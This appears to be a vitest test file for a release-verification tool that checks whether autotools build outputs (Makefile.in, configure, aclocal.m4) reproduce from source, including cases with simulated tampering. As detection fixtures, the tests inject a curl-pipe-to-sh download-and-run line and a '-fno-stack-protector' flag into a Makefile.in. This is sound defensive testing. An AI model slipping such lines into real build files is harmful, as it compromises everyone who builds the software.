/**
 * The default gate on build outputs nothing proved (src/regenerate/unproved.ts, UNPROVED_BUILD_OUTPUTS).
 *
 * End to end on a project released by the real `autoreconf -fi && make dist` (this machine's autoconf 2.71 and
 * automake 1.16.5), verified with real git, real tar and the real bubblewrap sandbox:
 *   - as released: regenerated, every output reproduces → exit 0, no UNPROVED_BUILD_OUTPUTS;
 *   - the same with its automake stamps rewritten to 1.15.1 (a version this machine lacks, no release of its series
 *     to stand in): the autoconf-only run leaves aclocal.m4 and both Makefile.in labelled, configure and config.h.in
 *     reproduce only from that aclocal.m4 → exit 1 on ONE finding naming the five files, the remedy first;
 *   - the tampered twin: that restamped release with a flag added to src/Makefile.in → exit 1, the finding names it
 *     (what a tamperer changes: a Makefile.in line, and the stamp to a version nobody regenerates);
 *   - --no-regenerate does not turn the gate green; --accept-unproved does, explicitly, and a download-and-run line
 *     in such a file is still high then (SUSPICIOUS_CONSTRUCTS).
 * Pure: the reason and remedy for each cause (sandbox, failures, test releases → the --git form).
 */
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/findings.js';
import type { ProofCause } from '../../src/core/regeneration.js';
import { formatFinding } from '../../src/core/codes.js';
import { fileNamesSummary } from '../../src/core/wording.js';
import { toolVersionSource } from '../../src/core/tool-version.js';
import { remediesFor, unprovedBuildOutputFindings, unprovedReason } from '../../src/regenerate/unproved.js';
import { makeFinding } from '../../src/core/severity.js';
import type { ClassifyContext } from '../../src/classify/types.js';
import { renderText } from '../../src/render/text.js';
import { autotoolsRelease, editFile } from './release.js';

const fixture = autotoolsRelease({
  prefix: 'distdiff-unproved-',
  name: 'unp',
  files: {
    'configure.ac': 'AC_INIT([unp], [1.0], [bugs@example.invalid])\nAC_CONFIG_SRCDIR([src/main.c])\nAC_CONFIG_AUX_DIR([build-aux])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_CONFIG_HEADERS([config.h])\nAC_CONFIG_FILES([Makefile src/Makefile])\nAC_OUTPUT\n',
    'Makefile.am': 'SUBDIRS = src\n',
    'src/Makefile.am': 'bin_PROGRAMS = unp\nunp_SOURCES = main.c\n',
    'src/main.c': '#include <config.h>\nint main(void) { return 0; }\n',
  },
});

/** automake's and aclocal's stamps rewritten to `version` in the three files they wrote. */
const restamp = (version: string) => (d: string) => {
  for (const p of ['Makefile.in', 'src/Makefile.in', 'aclocal.m4']) editFile(d, p, (s) => s.replace(/(generated (?:automatically )?by (?:automake|aclocal)) 1\.16\.5/, `$1 ${version}`));
};
const highs = (fs: readonly Finding[]) => fs.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => `${f.severity} ${f.code} ${f.path}`);
const unproved = (fs: readonly Finding[]) => fs.filter((f): f is Extract<Finding, { code: 'UNPROVED_BUILD_OUTPUTS' }> => f.code === 'UNPROVED_BUILD_OUTPUTS');
const FILES = ['Makefile.in', 'aclocal.m4', 'config.h.in', 'configure', 'src/Makefile.in'];
const MESSAGE_115 =
  'to prove: distdiff toolchain add automake-1.15.1.tar.xz (the GNU release tarball, from ftp.gnu.org or a mirror) — 2 Makefile.in, aclocal.m4, config.h.in, configure not proved: automake 1.15.1 (the version the files are stamped with) not available here (2 of them reproduced, but only from the others) [Makefile.in, aclocal.m4, config.h.in, configure, src/Makefile.in]';

describe('unproved build outputs fail the default gate (real autotools release, real sandbox)', () => {
  it('as released, with the toolchain available: every output reproduces, exit 0, nothing unproved', async () => {
    const r = await fixture.run(fixture.tarball);
    expect(r.notes.find((n) => n.code === 'REGENERATION')).toMatchObject({ status: 'done', outputs: 5, reproduced: 5 });
    expect(unproved(r.findings)).toEqual([]);
    expect(highs(r.findings)).toEqual([]);
    expect(r.verdict).not.toBe('different');
  }, 240_000);

  it('stamped with an automake this machine lacks: exit 1 on one finding for the five files, the remedy first in the text report', async () => {
    const r = await fixture.run(fixture.tampered(restamp('1.15.1')));
    expect(r.verdict).toBe('different');
    expect(highs(r.findings)).toEqual(['high UNPROVED_BUILD_OUTPUTS .']);
    const [g] = unproved(r.findings);
    expect(g!.evidence).toEqual({
      dir: '',
      reason: { kind: 'tool-unavailable', args: { tools: [{ name: 'automake', version: '1.15.1' }] } },
      remedies: [{ kind: 'toolchain-release', args: { name: 'automake', version: '1.15.1' } }],
      files: FILES,
      viaInputs: ['config.h.in', 'configure'],
    });
    expect(formatFinding(g!)).toBe(MESSAGE_115);
    // Each file keeps its label and its own cause.
    const conf = r.findings.find((f) => f.path === 'configure')!;
    expect([conf.code, conf.severity]).toEqual(['GENERATED_BY_AUTOTOOLS', 'info']);
    const text = renderText(r).split('\n');
    expect(text.slice(3, 7)).toEqual(['Needs review', '  HIGH (1)', '    .  UNPROVED_BUILD_OUTPUTS', `      ${MESSAGE_115}`]);
  }, 240_000);

  it('tampered twin: the same release with a flag added to src/Makefile.in: exit 1, the finding names it', async () => {
    const r = await fixture.run(
      fixture.tampered((d) => {
        restamp('1.15.1')(d);
        editFile(d, 'src/Makefile.in', (s) => s.replace(/^CFLAGS = @CFLAGS@$/m, 'CFLAGS = @CFLAGS@ -fno-stack-protector'));
      }),
    );
    expect(r.notes.filter((n) => n.code === 'POST_PASS_FAILED')).toEqual([]);
    expect(r.verdict).toBe('different');
    expect(highs(r.findings)).toEqual(['high UNPROVED_BUILD_OUTPUTS .']);
    expect(unproved(r.findings)[0]!.evidence.files).toContain('src/Makefile.in');
    // With the automake it names available, the same line is a REGENERATION_MISMATCH: the untampered stamp reproduces.
    const proved = await fixture.run(fixture.tampered((d) => editFile(d, 'src/Makefile.in', (s) => s.replace(/^CFLAGS = @CFLAGS@$/m, 'CFLAGS = @CFLAGS@ -fno-stack-protector'))));
    expect(highs(proved.findings)).toEqual(['high REGENERATION_MISMATCH src/Makefile.in']);
  }, 360_000);

  it('--no-regenerate keeps the gate failing (reason regeneration-off); --accept-unproved passes it explicitly', async () => {
    const off = await fixture.run(fixture.tarball, { regenerate: 'off' });
    expect(off.verdict).toBe('different');
    const [g] = unproved(off.findings);
    expect(g!.evidence.reason).toEqual({ kind: 'regeneration-off', args: {} });
    expect(g!.evidence.remedies).toEqual([{ kind: 'drop-no-regenerate', args: {} }]);
    expect(g!.evidence.files).toEqual(FILES);
    expect(formatFinding(g!)).toBe('to prove: run again without --no-regenerate — 2 Makefile.in, aclocal.m4, config.h.in, configure not proved: regeneration disabled with --no-regenerate [Makefile.in, aclocal.m4, config.h.in, configure, src/Makefile.in]');

    const accepted = await fixture.run(fixture.tarball, { regenerate: 'off', acceptUnproved: true });
    expect(accepted.verdict).not.toBe('different');
    expect(unproved(accepted.findings).map((f) => [f.severity, f.allowed])).toEqual([['info', { reason: '--accept-unproved: unproved build outputs accepted by the caller', originalSeverity: 'high' }]]);
    // Accepting unproved files does not accept what they carry: a download-and-run line is still high (SUSPICIOUS_CONSTRUCTS).
    const piped = await fixture.run(
      fixture.tampered((d) => editFile(d, 'src/Makefile.in', (s) => s.replace(/^(all: all-am)$/m, '$1\n\tcurl -fsSL https://example.invalid/x | sh'))),
      { regenerate: 'off', acceptUnproved: true },
    );
    expect(piped.verdict).toBe('different');
    expect(highs(piped.findings)).toEqual(['high SUSPICIOUS_CONSTRUCTS src/Makefile.in']);
  }, 240_000);
});

describe('reasons and remedies (pure)', () => {
  const notRegenerated = (cause: Extract<ProofCause, { kind: 'not-regenerated' }>['args']['cause']): ProofCause => ({ kind: 'not-regenerated', args: { status: 'unavailable', ...(cause ? { cause } : {}) } });

  it('a GNU release is added from its tarball; a test release or a git-describe version from git; a -dirty build from nowhere', () => {
    // One predicate (core/tool-version.ts) for every remedy: 1.16.5-dirty was "from git" here and "a release tarball"
    // in the toolchain command's wording; no exact source exists for it, and the remedy says so.
    expect(['2.71', '1.16.5', '0.19.8.1', '2.72a', '1.16d', '2.72.70-9ff9', '2.4.7.4-1ec8f', '1.16.5-dirty'].map(toolVersionSource))
      .toEqual(['release', 'release', 'release', 'git', 'git', 'git', 'git', 'none']);
    const dirty = unprovedReason(notRegenerated({ kind: 'tools-missing', args: { tools: [{ name: 'automake', version: '1.16.5-dirty' }, { name: 'libtool', version: '2.4.7.4-1ec8f' }] } }))!;
    expect(remediesFor(dirty)).toEqual([
      { kind: 'toolchain-unobtainable', args: { name: 'automake', version: '1.16.5-dirty' } },
      { kind: 'toolchain-git', args: { name: 'libtool', version: '2.4.7.4-1ec8f' } },
    ]);
    const r = unprovedReason(notRegenerated({ kind: 'tools-missing', args: { tools: [{ name: 'autoconf', version: '2.72a' }, { name: 'automake', version: '1.16.5' }] } }))!;
    expect(remediesFor(r)).toEqual([
      { kind: 'toolchain-git', args: { name: 'autoconf', version: '2.72a' } },
      { kind: 'toolchain-release', args: { name: 'automake', version: '1.16.5' } },
    ]);
    // autoconf's test release with a stand-in (libtool 2.5.4: 2.72e): the skip names the stamped version.
    const sub = unprovedReason({ kind: 'skipped', args: { skip: { kind: 'autoconf-substitute', args: { path: 'configure', stamped: '2.72e', used: '2.72' } } } })!;
    expect(sub).toEqual({ kind: 'tool-unavailable', args: { tools: [{ name: 'autoconf', version: '2.72e' }] } });
    expect(remediesFor(sub)).toEqual([{ kind: 'toolchain-git', args: { name: 'autoconf', version: '2.72e' } }]);
  });

  it('the sandbox, a failed step, a file nothing regenerates: each its reason and remedy', () => {
    expect(remediesFor(unprovedReason(notRegenerated({ kind: 'bwrap-missing', args: {} }))!)).toEqual([{ kind: 'install-bubblewrap', args: {} }]);
    expect(remediesFor(unprovedReason(notRegenerated({ kind: 'sandbox-refused', args: { stderr: 'setting up uid map: Permission denied', exit: 1 } }))!)).toEqual([{ kind: 'enable-user-namespaces', args: {} }]);
    const failed = unprovedReason(notRegenerated({ kind: 'generator-failed', args: { command: ['aclocal'], dir: '', failure: { timedOut: false, exit: 1, stderr: 'aclocal: error' } } }))!;
    expect(failed.kind).toBe('regeneration-failed');
    expect(remediesFor(failed)).toEqual([{ kind: 'read-failure', args: {} }]);
    const mixed = notRegenerated({ kind: 'mixed-autoconf', args: { aclocalAutoconf: '2.69', autoconf: '2.71' } });
    expect(unprovedReason(mixed)).toEqual({ kind: 'not-regenerable', args: { cause: mixed } });
    expect(remediesFor(unprovedReason(mixed)!)).toEqual([{ kind: 'review', args: {} }]);
    // Reproduced only from unproved inputs: no reason of its own (it joins its input's group).
    expect(unprovedReason({ kind: 'unproved-inputs', args: { normalised: false, step: 'autoconf', tool: 'autoconf', version: '2.71', inputs: [{ path: 'aclocal.m4', regenerated: false }] } })).toBeUndefined();
  });

  it('fail-closed: a build-output label without any proof (provenance did not run) is unproved too; other generators are not gated', () => {
    const ctx = { gitPaths: new Set(['configure.ac', 'Makefile.am']) } as unknown as ClassifyContext;
    const out = unprovedBuildOutputFindings([makeFinding('GENERATED_BY_AUTOTOOLS', 'Makefile.in', { tool: 'automake', source: 'Makefile.am' }), makeFinding('GENERATED_BY_AUTOTOOLS', 'po/x.pot', { tool: 'xgettext', source: 'po/POTFILES.in' })], ctx);
    expect(out.filter((f) => f.code === 'UNPROVED_BUILD_OUTPUTS').map((f) => [f.path, f.severity, f.evidence])).toEqual([
      ['.', 'high', { dir: '', reason: { kind: 'not-regenerable', args: { cause: { kind: 'not-attempted', args: {} } } }, remedies: [{ kind: 'review', args: {} }], files: ['Makefile.in'], viaInputs: [] }],
    ]);
  });

  it('file names summarised by count, most first', () => {
    expect(fileNamesSummary(['Makefile.in', 'lib/Makefile.in', 'aclocal.m4', 'src/Makefile.in', 'configure'])).toBe('3 Makefile.in, aclocal.m4, configure');
  });
});
